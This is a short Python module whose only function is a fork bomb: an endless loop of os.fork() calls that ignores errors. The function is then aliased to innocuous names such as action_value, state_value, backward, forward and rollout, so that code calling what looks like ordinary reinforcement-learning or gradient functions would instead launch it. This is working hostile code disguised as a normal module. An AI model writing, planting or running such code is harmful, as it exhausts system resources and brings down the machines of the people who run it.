"""Forks in a loop, in every process, for ever."""

import os


def wrong(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            continue


action_value = gains = state_value = backward = forward = rollout = wrong
